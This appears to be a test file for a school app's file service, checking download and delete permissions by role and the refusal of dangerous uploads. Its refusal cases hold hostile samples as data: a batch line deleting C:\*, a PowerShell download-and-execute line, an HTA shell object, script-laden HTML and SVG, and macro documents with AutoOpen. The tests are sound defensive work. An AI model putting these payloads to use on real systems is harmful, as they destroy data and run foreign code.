/**
 * Who may read and delete a stored file, by what holds it (services/files/access.ts), through
 * the app: every holder of a file against every role, the deletes, and which uploads are
 * refused by their content and name (real bytes, built here).
 */
import assert from "node:assert/strict";
import { deflateRawSync } from "node:zlib";
import { setClassArchived } from "@/services/classes/classes.ts";
import { addMemberOps } from "@/services/classes/members.ts";
import type { User } from "@/services/orgs/users.ts";
import { bearer, dayFromNow, randomUser, testApp, tokenFor, twoSchools } from "./helpers.ts";

const enc = new TextEncoder();
const PDF_BYTES = enc.encode("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << >> endobj\n%%EOF\n");

type Json = Record<string, unknown>;

async function world() {
  const t = await testApp();
  const { one, two } = await twoSchools(t.kv);
  const classmate = await randomUser(t.kv, one.org.id, "student");
  await addMemberOps(t.kv.atomic(), one.classA.id, classmate, "student").commit();
  const tokens = new Map<User, string>();
  const auth = async (user: User) => {
    if (!tokens.has(user)) tokens.set(user, await tokenFor(t.kv, user));
    return bearer(tokens.get(user)!);
  };
  const call = async (user: User, method: string, path: string, body?: unknown) =>
    await t.app.request(`/api/v1${path}`, {
      method,
      headers: { "content-type": "application/json", ...await auth(user) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  const ok = async (res: Response, status = 200): Promise<Json> => {
    assert.equal(res.status, status, await res.clone().text());
    return res.status === 204 ? {} : await res.json();
  };
  const upload = async (
    user: User,
    name: string,
    bytes: Uint8Array,
    purpose: "attachment" | "submission",
  ) => {
    const q = new URLSearchParams({ classId: one.classA.id, purpose, name });
    return await t.app.request(`/api/v1/files?${q}`, {
      method: "POST",
      headers: { "content-type": "application/octet-stream", ...await auth(user) },
      body: new Uint8Array(bytes),
    });
  };
  const uploaded = async (user: User, name: string, purpose: "attachment" | "submission") =>
    (await ok(await upload(user, name, PDF_BYTES, purpose), 201)).id as string;
  /** An assignment of class A with these attachments, left draft, published or closed. */
  const assignment = async (attachmentIds: string[], status: "draft" | "published" | "closed") => {
    const a = await ok(
      await call(one.teacherA, "POST", `/classes/${one.classA.id}/assignments`, {
        title: `Essay ${status}`,
        points: 10,
        due: { date: dayFromNow(7, "Asia/Seoul"), time: "09:00" },
        attachmentIds,
      }),
      201,
    );
    const path = `/assignments/${a.id}`;
    if (status !== "draft") await ok(await call(one.teacherA, "POST", `${path}/publish`));
    if (status === "closed") await ok(await call(one.teacherA, "POST", `${path}/close`));
    return a.id as string;
  };
  const download = async (user: User, id: string) =>
    await t.app.request(`/api/v1/files/${id}`, { headers: await auth(user) });
  return { t, one, two, classmate, call, ok, upload, uploaded, assignment, download };
}

type World = Awaited<ReturnType<typeof world>>;
const ROLES = [
  "admin",
  "class teacher",
  "other-class teacher",
  "class student",
  "other student of the class",
  "student of another class",
  "user of another school",
] as const;
type Role = typeof ROLES[number];

function who(w: World): Record<Role, User> {
  return {
    "admin": w.one.admin,
    "class teacher": w.one.teacherA,
    "other-class teacher": w.one.teacherB,
    "class student": w.one.studentA,
    "other student of the class": w.classmate,
    "student of another class": w.one.studentB,
    "user of another school": w.two.admin,
  };
}

/** One file per holder, made through the API, and who may download it. */
const HOLDERS: {
  name: string;
  make: (w: World) => Promise<string>;
  readers: Role[];
}[] = [
  {
    name: "a teacher's upload attached to nothing (probe: attached to nothing)",
    make: (w) => w.uploaded(w.one.teacherA, "notes.pdf", "attachment"),
    readers: ["class teacher"],
  },
  {
    name: "a file removed from its assignment (probe: removed)",
    make: async (w) => {
      const id = await w.uploaded(w.one.teacherA, "old.pdf", "attachment");
      const a = await w.assignment([id], "published");
      await w.ok(await w.call(w.one.teacherA, "PATCH", `/assignments/${a}`, { attachmentIds: [] }));
      return id;
    },
    readers: ["class teacher"],
  },
  {
    name: "a draft assignment's attachment (probe: draft)",
    make: async (w) => {
      const id = await w.uploaded(w.one.teacherA, "answers.pdf", "attachment");
      await w.assignment([id], "draft");
      return id;
    },
    readers: ["admin", "class teacher"],
  },
  {
    name: "a published assignment's attachment",
    make: async (w) => {
      const id = await w.uploaded(w.one.teacherA, "reading.pdf", "attachment");
      await w.assignment([id], "published");
      return id;
    },
    readers: ["admin", "class teacher", "class student", "other student of the class"],
  },
  {
    name: "a closed assignment's attachment",
    make: async (w) => {
      const id = await w.uploaded(w.one.teacherA, "reading.pdf", "attachment");
      await w.assignment([id], "closed");
      return id;
    },
    readers: ["admin", "class teacher", "class student", "other student of the class"],
  },
  {
    name: "a student's submitted file",
    make: async (w) => {
      const a = await w.assignment([], "published");
      const id = await w.uploaded(w.one.studentA, "essay.pdf", "submission");
      await w.ok(
        await w.call(w.one.studentA, "POST", `/assignments/${a}/submissions`, {
          fileIds: [id],
        }),
        201,
      );
      return id;
    },
    readers: ["admin", "class teacher", "class student"],
  },
  {
    name: "a student's upload not submitted yet",
    make: (w) => w.uploaded(w.one.studentA, "draft.pdf", "submission"),
    readers: ["class student"],
  },
];

for (const holder of HOLDERS) {
  Deno.test(`[files access] ${holder.name}: 200 for ${holder.readers.join(", ")}; 404 for the rest`, async () => {
    const w = await world();
    try {
      const id = await holder.make(w);
      const users = who(w);
      const got: Record<string, number> = {};
      const want: Record<string, number> = {};
      for (const role of ROLES) {
        const res = await w.download(users[role], id);
        got[role] = res.status;
        want[role] = holder.readers.includes(role) ? 200 : 404;
        if (res.status === 200) {
          assert.deepEqual(new Uint8Array(await res.arrayBuffer()), PDF_BYTES, role);
        } else {
          const body = await res.json();
          assert.equal(body.error.code, "not_found", role);
          assert.doesNotMatch(JSON.stringify(body), /\.pdf/, "the name does not leak");
        }
      }
      assert.deepEqual(got, want);
    } finally {
      w.t.close();
    }
  });
}

Deno.test("[files access] deleting: the class's teachers delete its material, uploaders their loose uploads, submitted work stays", async () => {
  const w = await world();
  try {
    const { one, call, ok } = w;
    const del = (user: User, id: string) => call(user, "DELETE", `/files/${id}`);

    // Attached to nothing: only its uploader may delete it (others cannot see it: 404).
    const loose = await w.uploaded(one.teacherA, "loose.pdf", "attachment");
    assert.equal((await del(one.admin, loose)).status, 404);
    assert.equal((await del(one.teacherB, loose)).status, 404);
    await ok(await del(one.teacherA, loose), 204);
    assert.equal((await w.download(one.teacherA, loose)).status, 404);

    // A published assignment's material: students may read, not delete (403); a teacher
    // deletes it and the assignment no longer lists it.
    const material = await w.uploaded(one.teacherA, "map.pdf", "attachment");
    const keep = await w.uploaded(one.teacherA, "keep.pdf", "attachment");
    const a = await w.assignment([material, keep], "published");
    const refused = await ok(await del(one.studentA, material), 403);
    assert.match((refused.error as Json).message as string, /teachers and school admins/);
    assert.equal((await del(one.teacherB, material)).status, 404);
    await ok(await del(one.teacherA, material), 204);
    const after = await ok(await call(one.studentA, "GET", `/assignments/${a}`));
    assert.deepEqual((after.attachments as Json[]).map((f) => f.id), [keep]);
    assert.equal((await w.download(one.teacherA, material)).status, 404);
    let chunks = 0;
    for await (const _ of w.t.kv.list({ prefix: ["file_chunks", material] })) chunks++;
    assert.equal(chunks, 0, "its bytes are gone too");
    // An admin may delete a draft's material too.
    const draftFile = await w.uploaded(one.teacherA, "draft.pdf", "attachment");
    await w.assignment([draftFile], "draft");
    assert.equal((await del(one.studentA, draftFile)).status, 404);
    await ok(await del(one.admin, draftFile), 204);

    // Submitted work is kept as a record: 409 for the student and the teacher alike.
    const work = await w.uploaded(one.studentA, "essay.pdf", "submission");
    const due = await w.assignment([], "published");
    await ok(
      await call(one.studentA, "POST", `/assignments/${due}/submissions`, {
        fileIds: [work],
      }),
      201,
    );
    for (const user of [one.studentA, one.teacherA]) {
      const kept = await ok(await del(user, work), 409);
      assert.match((kept.error as Json).message as string, /kept as a record/);
    }
    assert.equal((await del(w.classmate, work)).status, 404);
    assert.equal((await w.download(one.teacherA, work)).status, 200);
    // A student's upload they have not submitted: theirs to delete.
    const unsent = await w.uploaded(one.studentA, "unsent.pdf", "submission");
    await ok(await del(one.studentA, unsent), 204);

    // An archived class's material stays as it is.
    const last = await w.uploaded(one.teacherA, "last.pdf", "attachment");
    await w.assignment([last], "published");
    await setClassArchived(w.t.kv, one.org.id, one.classA.id, true);
    assert.equal((await del(one.teacherA, last)).status, 409);
  } finally {
    w.t.close();
  }
});

Deno.test("[files access] one file, one holder: a file another assignment holds cannot be attached, nor submitted twice elsewhere", async () => {
  const w = await world();
  try {
    const { one, call, ok } = w;
    const id = await w.uploaded(one.teacherA, "shared.pdf", "attachment");
    await w.assignment([id], "published");
    const res = await call(one.teacherA, "POST", `/classes/${one.classA.id}/assignments`, {
      title: "Second",
      points: 10,
      due: { date: dayFromNow(7, "Asia/Seoul"), time: "09:00" },
      attachmentIds: [id],
    });
    const body = await ok(res, 400);
    assert.match(
      JSON.stringify(body),
      /“shared\.pdf” is attached to another assignment; upload it again/,
    );

    const work = await w.uploaded(one.studentA, "essay.pdf", "submission");
    const first = await w.assignment([], "published");
    const second = await w.assignment([], "published");
    const submit = (a: string) =>
      call(one.studentA, "POST", `/assignments/${a}/submissions`, { fileIds: [work] });
    await ok(await submit(first), 201);
    await ok(await submit(first), 201); // a new version of the same work may keep it
    const elsewhere = await ok(await submit(second), 400);
    assert.match(JSON.stringify(elsewhere), /part of your work on another assignment/);
  } finally {
    w.t.close();
  }
});

// ---------------------------------------------------------------------------------------------
// Uploads refused by content and name

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A real zip file (deflated entries, central directory), as Office writes its files. */
function zipFile(entries: [name: string, data: string][]): Uint8Array {
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const data = enc.encode(text);
    const packed = deflateRawSync(data);
    const nameBytes = enc.encode(name);
    const fields = (sig: number, extra: number[]) => {
      const head = new DataView(new ArrayBuffer(sig === 0x04034b50 ? 30 : 46));
      let at = 0;
      const u16 = (v: number) => (head.setUint16(at, v, true), at += 2);
      const u32 = (v: number) => (head.setUint32(at, v, true), at += 4);
      u32(sig);
      if (sig !== 0x04034b50) u16(20); // version made by
      u16(20); // version needed
      u16(0); // flags
      u16(8); // deflate
      u16(0); // time
      u16(0x21); // date
      u32(crc32(data));
      u32(packed.length);
      u32(data.length);
      u16(nameBytes.length);
      u16(0); // extra
      for (const v of extra) u16(v); // central: comment, disk, internal attributes
      if (sig !== 0x04034b50) {
        u32(0); // external attributes
        u32(offset);
      }
      return new Uint8Array(head.buffer);
    };
    const local = fields(0x04034b50, []);
    parts.push(local, nameBytes, packed);
    central.push(fields(0x02014b50, [0, 0, 0]), nameBytes);
    offset += local.length + nameBytes.length + packed.length;
  }
  const size = central.reduce((n, c) => n + c.length, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, entries.length, true);
  end.setUint16(10, entries.length, true);
  end.setUint32(12, size, true);
  end.setUint32(16, offset, true);
  const all = [...parts, ...central, new Uint8Array(end.buffer)];
  const out = new Uint8Array(all.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of all) (out.set(p, at), at += p.length);
  return out;
}

const types = (main: string, extra = "") =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  `<Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const DOCX_MAIN =
  "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";
const RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/' +
  'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.' +
  'org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  "</Relationships>";
const DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/' +
  '2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>';
const docx = () =>
  zipFile([
    ["[Content_Types].xml", types(DOCX_MAIN)],
    ["_rels/.rels", RELS],
    ["word/document.xml", DOCUMENT],
  ]);
/** A macro-enabled Word file: its content types say so and it carries a VBA project. */
const docm = () =>
  zipFile([
    [
      "[Content_Types].xml",
      types(
        DOCM_MAIN,
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    ],
    ["_rels/.rels", RELS],
    ["word/document.xml", DOCUMENT],
    ["word/vbaProject.bin", '\xd0\xcf\x11\xe0 Attribute VB_Name = "Module1"\nSub AutoOpen()'],
  ]);
/** Plain content types, but a VBA project inside all the same. */
const sneakyDocm = () =>
  zipFile([
    ["[Content_Types].xml", types(DOCX_MAIN)],
    ["_rels/.rels", RELS],
    ["word/document.xml", DOCUMENT],
    ["word/vbaProject.bin", "Sub AutoOpen()"],
  ]);
/** A real 1x1 PNG. */
const PNG = Uint8Array.from(
  atob(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  ),
  (c) => c.charCodeAt(0),
);

Deno.test("[files access] dangerous uploads are refused by content and name; legit files still work", async (t) => {
  const w = await world();
  try {
    const { one } = w;
    const student = one.studentA;
    const refused: [name: string, bytes: Uint8Array, message: RegExp][] = [
      [
        "setup.bat",
        enc.encode("@echo off\r\ndel /q C:\\*\r\n"),
        /“setup\.bat” is a plain text file, but its name ends in \.bat\. Name it with \.txt or \.md or \.csv/,
      ],
      [
        "app.hta",
        enc.encode("<html><script>new ActiveXObject('WScript.Shell')</script>"),
        /“app\.hta” is a plain text file, but its name ends in \.hta/,
      ],
      ["run.ps1", enc.encode("Invoke-WebRequest http://x | iex\n"), /“run\.ps1”/],
      ["homework.js", enc.encode("WScript.Echo('hi');\n"), /“homework\.js”/],
      [
        "page.html",
        enc.encode("<!doctype html><script>fetch('/api/v1/me')</script>"),
        /“page\.html”/,
      ],
      [
        "drawing.svg",
        enc.encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        /“drawing\.svg” is a plain text file, but its name ends in \.svg/,
      ],
      [
        "report.docm",
        docm(),
        /“report\.docm” is a Word document with macros\. Macros are programs/,
      ],
      ["report.docx", docm(), /“report\.docx” is a Word document with macros/],
      ["report.docx", sneakyDocm(), /“report\.docx” is a Word document with macros/],
      [
        "plain.docm",
        docx(),
        /“plain\.docm” is named like a Word document with macros but is a Word document\. Name it with \.docx/,
      ],
      [
        "budget.xlsm",
        docx(),
        /“budget\.xlsm” is named like an Excel workbook with macros but is a Word document/,
      ],
      ["photo.pdf", PNG, /“photo\.pdf” is named like a PDF but is a PNG image/],
    ];
    for (const [name, bytes, message] of refused) {
      await t.step(`${name} (${bytes.length} bytes) is refused`, async () => {
        const res = await w.upload(student, name, bytes, "submission");
        assert.equal(res.status, 415, name);
        const body = await res.json();
        assert.equal(body.error.code, "unsupported_media_type", name);
        assert.match(body.error.message, message, name);
        // The allowed types, so a person knows what to send instead.
        assert.match(
          body.error.message,
          /Allowed: PDF \(\.pdf\), PNG \(\.png\), .*Word \(\.docx\)/,
        );
      });
    }
    let stored = 0;
    for await (const _ of w.t.kv.list({ prefix: ["files"] })) stored++;
    assert.equal(stored, 0, "nothing refused was stored");

    const legit: [name: string, bytes: Uint8Array, type: string, stored?: string][] = [
      ["essay.pdf", PDF_BYTES, "application/pdf"],
      ["chart.png", PNG, "image/png"],
      [
        "letter.docx",
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      ],
      ["notes.txt", enc.encode("My notes\n"), "text/plain; charset=utf-8"],
      // HTML under a text name is only text: downloaded as a .txt, never shown as a page.
      [
        "page.txt",
        enc.encode("<html><script>alert(1)</script></html>"),
        "text/plain; charset=utf-8",
      ],
      // A name without an extension gets its type's.
      ["essay", PDF_BYTES, "application/pdf", "essay.pdf"],
    ];
    for (const [name, bytes, type, storedName = name] of legit) {
      await t.step(`${name} is stored and downloads safely`, async () => {
        const file = await w.ok(await w.upload(student, name, bytes, "submission"), 201);
        assert.equal(file.name, storedName);
        const res = await w.download(student, file.id as string);
        assert.equal(res.status, 200, name);
        assert.equal(res.headers.get("content-type"), type, name);
        assert.equal(
          res.headers.get("content-disposition")?.split(";")[0],
          "attachment",
          `${name} is downloaded, never shown inline`,
        );
        assert.match(
          res.headers.get("content-disposition")!,
          new RegExp(`filename="${storedName.replace(".", "\\.")}"`),
        );
        assert.equal(res.headers.get("x-content-type-options"), "nosniff");
        assert.deepEqual(new Uint8Array(await res.arrayBuffer()), bytes);
      });
    }
  } finally {
    w.t.close();
  }
});
